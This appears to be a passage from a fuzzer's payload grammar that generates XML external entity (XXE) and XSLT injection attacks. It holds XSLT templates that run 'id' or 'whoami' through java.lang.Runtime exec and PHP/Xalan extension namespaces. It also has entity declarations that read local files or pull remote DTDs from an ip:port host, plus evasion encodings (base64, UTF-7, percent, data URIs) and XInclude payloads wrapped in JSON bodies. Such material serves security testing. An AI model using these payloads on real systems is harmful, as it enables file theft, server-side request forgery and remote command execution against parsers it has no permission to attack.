  <xsl:value-of select="shell:‹=v:‹~2-6››('‹id¦whoami›')"/><lxslt:script lang="javascript">function ‹=v›(c){return java.lang.Runtime.getRuntime().exec(c);}</lxslt:script>
xx.xslns:  xmlns:php="http://php.net/xsl"
  ␠xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime" xmlns:ob="http://xml.apache.org/xalan/java/java.lang.Object"
  ␠xmlns:msxsl="urn:schemas-microsoft-com:xslt" xmlns:user="urn:‹~2-6›"
  ␠extension-element-prefixes="‹exsl¦redirect¦saxon›"
  2× ∅
xxe/xslt [body-xml,value,file] 4: 4× ‹:w:‹xx.nl››‹xx.decl›<xsl:stylesheet version="‹1.0¦2.0¦1.1›" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"‹xx.xslns›>‹=w›<xsl:template match="‹/¦/*¦*¦/‹~2-6››">‹=w›‹xx.xsl›‹=w›</xsl:template>‹=w›</xsl:stylesheet>
  <xsl:transform version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"‹xx.xslns›><xsl:template match="/">‹xx.xsl›</xsl:template></xsl:transform>
  ‹xx.xsl›
  <‹=r:‹xx.tag›› xsl:version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"‹xx.xslns›>‹xx.xsl›</‹=r›>
  ‹:w:∅›‹xx.decl›<?xml-stylesheet type="text/xsl" href="#‹=i:‹~1-5››"?><‹=r:‹~2-6››><xsl:stylesheet id="‹=i›" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">‹xx.xsl›</xsl:template></xsl:stylesheet></‹=r›>
xxe/fragment 3: <!ENTITY ‹xx.name› ‹xx.ext›>
  <!ENTITY % ‹=q:‹xx.param›› SYSTEM ‹xx.quoted›>‹%‹=q›;¦ %‹=q›;¦›
  <!DOCTYPE ‹xx.tag› [<!ENTITY ‹=e:‹xx.name›› ‹xx.ext›>]>‹¦&‹=e›;›
  <!DOCTYPE ‹xx.tag› [<!ENTITY % ‹=q:‹xx.param›› SYSTEM ‹xx.quotedremote›>%‹=q›;]>
  ‹]>¦"?>¦'/>¦]]>¦-->›<!DOCTYPE ‹=r:‹xx.tag›› [<!ENTITY ‹=e:‹xx.name›› ‹xx.ext›>]><‹=r›>&‹=e›;</‹=r›>
  <!DOCTYPE ‹xx.tag› SYSTEM ‹"‹xx.file›"¦"‹xx.inner›"¦"http://‹ip›:‹port›/‹~1-6›"›>
  <![CDATA[<!DOCTYPE ‹=r:‹xx.tag›› [<!ENTITY ‹=e:‹xx.name›› ‹xx.ext›>]><‹=r›>&‹=e›;</‹=r›>]]>
  ‹word›<!DOCTYPE ‹xx.tag› [‹<!ENTITY % ‹=q:‹xx.param›› SYSTEM ‹xx.quotedremote›>%‹=q›;¦<!ENTITY ‹xx.name› SYSTEM ‹xx.quotedfile›>›]>
xxe/encoded [value] 2: ‹b64!‹xx.doc››
  ‹percent!‹xx.doc››
  ‹entity!<!DOCTYPE ‹=r:‹~1-4›› [<!ENTITY ‹=e:‹~1-4›› SYSTEM "‹xx.file›">]>›<‹=r›>&‹=e›;</‹=r›>
  ‹xml!‹xx.doc››
  data:‹text/xml¦application/xml¦image/svg+xml›;base64,‹b64!‹xx.doc››
  data:‹text/xml¦image/svg+xml›,‹percent!‹xx.doc››
  <?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE ‹=r:‹~2-6››+AFsAPAAh-ENTITY ‹=e:‹~1-5›› SYSTEM +ACI-‹xx.file›+ACIAPgBdAD4-+ADw-‹=r›+AD4-+ACY-‹=e›+ADsAPA-/‹=r›+AD4-
  ‹unicode!<!DOCTYPE ‹=r:‹~1-4›› [<!ENTITY ‹=e:‹~1-4›› SYSTEM "‹xx.file›">]>›
xxe/json [body-json] 2: {"‹xml¦data¦payload¦content¦document¦svg¦body¦template¦metadata›":"‹json!‹xx.doc››"}
  {"‹xml¦data¦content¦saml›":"‹b64!‹xx.doc››","type":"‹xml¦application/xml¦svg›"}
  {"‹col›":"‹word›","‹xml¦svg¦soap¦raw¦value›":"‹json!‹xx.doc››"}
  {"‹~3-8›":"<‹=r:‹~2-6›› xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"‹json!‹xx.uri››\"/></‹=r›>"}
`
